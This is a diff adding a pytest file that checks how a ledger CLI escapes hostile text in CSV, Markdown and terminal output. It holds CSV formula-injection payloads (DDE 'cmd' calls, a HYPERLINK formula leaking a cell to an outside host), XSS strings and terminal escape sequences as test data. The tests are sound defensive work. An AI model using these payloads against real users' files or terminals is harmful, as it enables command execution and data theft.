@@ -1,0 +1,102 @@
+"""Hostile text from files, file names and git reaches no reader live: each output format
+escapes it with its one function (output/escape.py)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from conftest import LI, Repo, RunCli, WriteLedger, item_yaml
+
+from huishang.output import escape
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_becomes_text(text: str) -> None:
+    assert escape.csv_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["-5", "+3", "12.5", "33%", "统一标准", "a=b", ""])
+def test_numbers_and_ordinary_text_stay(text: str) -> None:
+    assert escape.csv_cell(text) == text
+
+
+def test_markdown_shows_html_and_links_as_written() -> None:
+    assert escape.markdown("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;"
+    assert escape.markdown("[点我](javascript:alert(1))") == "\\[点我\\](javascript:alert(1))"
+    assert escape.markdown("a | b\nc") == "a \\| b<br>c"
+
+
+def test_terminal_writes_control_characters_out() -> None:
+    assert escape.terminal("a\x1b]0;pwned\x07b\x9bc") == "a\\x1b]0;pwned\\x07b\\x9bc"
+    assert escape.terminal("一\n二\t三") == "一 二 三"
+    assert escape.terminal("普通文本 👩‍💻") == "普通文本 👩‍💻"
+
+
+@pytest.fixture
+def repo(write_ledger: WriteLedger) -> Repo:
+    root = write_ledger({"items/m1/m1-01.yaml": item_yaml(
+        due="2024-06-30", updates="[{date: 2024-01-10, note: 已召开专题会议}]")})
+    r = Repo(root)
+    r.commit("meeting and item", LI, "2024-01-10")
+    return r
+
+
+@pytest.mark.parametrize("command", [["list"], ["warnings"], ["progress", "--by", "owner"]])
+def test_every_csv_neutralises_formulas(run: RunCli, write_ledger: WriteLedger,
+                                        command: list[str]) -> None:
+    titles = [t for t in FORMULAS if not t.startswith(("\t", "\r"))]
+    files = {f"items/m1/m1-{n:02d}.yaml": item_yaml(f"m1-{n:02d}", title=f"'{t.replace(chr(39), chr(39) * 2)}'",
+                                                    owner=f"{{person: '{t.replace(chr(39), chr(39) * 2)}'}}")
+             for n, t in enumerate(titles, 1)}
+    root = write_ledger(files)
+    result = run(*command, "--format", "csv", "--repo", str(root), "--today", "2024-01-05")
+    assert result.exit_code == 0, result.output
+    cells = [c for row in csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))) for c in row]
+    found = [c for c in cells if c.lstrip("'") in titles or any(t in c for t in titles)]
+    assert found  # the hostile text is there, as text
+    assert not [c for c in cells if c.startswith(("=", "+", "@")) or
+                (c.startswith("-") and not c.lstrip("-").isdigit())]
+
+
+def test_markdown_outputs_carry_no_raw_html(run: RunCli, repo: Repo, tmp_path: Path) -> None:
+    hostile = "<script>alert(1)</script><img src=x onerror=alert(2)>"
+    text = (repo.root / "items/m1/m1-01.yaml").read_text(encoding="utf-8")
+    repo.write("items/m1/m1-01.yaml", text.replace("title: 统一量刑建议审查标准",
+                                                   f"title: '{hostile}'"))
+    repo.commit("hostile title", LI, "2024-02-02")
+    listing = run("list", "--format", "markdown", "--repo", str(repo.root),
+                  "--today", "2024-02-05").stdout
+    bulletin = run("bulletin", "--month", "2024-02", "--repo", str(repo.root),
+                   "--today", "2024-02-05").stdout
+    for page in (listing, bulletin):
+        assert "<script" not in page and "<img" not in page
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in listing
+
+
+def test_file_names_reach_the_terminal_written_out(run: RunCli,
+                                                   write_ledger: WriteLedger) -> None:
+    root = write_ledger({"items/m1/m1-01.yaml": item_yaml(),
+                         "items/m1/x\x1b[2J\x1b]0;pwned\x07.yml": "id: x\n"})
+    result = run("validate", "--repo", str(root), "--lang", "en")
+    assert result.exit_code == 1
+    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+    assert "x\\x1b[2J\\x1b]0;pwned\\x07.yml" in result.stdout
+
+
+def test_git_authors_and_subjects_reach_the_terminal_written_out(run: RunCli,
+                                                                 repo: Repo) -> None:
+    text = (repo.root / "items/m1/m1-01.yaml").read_text(encoding="utf-8")
+    repo.write("items/m1/m1-01.yaml", text.replace("已召开专题会议}]",
+                                                   "已召开专题会议}, {date: 2024-02-03, note: 补充}]"))
+    repo.commit("subject \x1b[31mred\x1b[0m", ("Mallory\x1b]0;x\x07", "m@x.example"),
+                "2024-02-03")
+    for command in (["history", "m1-01"], ["log", "--since", "2024-02-01"]):
+        out = run(*command, "--repo", str(repo.root), "--today", "2024-02-05").stdout
+        assert "\x1b" not in out and "\x07" not in out, command
+        assert "Mallory\\x1b]0;x" in out and "subject \\x1b[31mred" in out  # git trims BEL
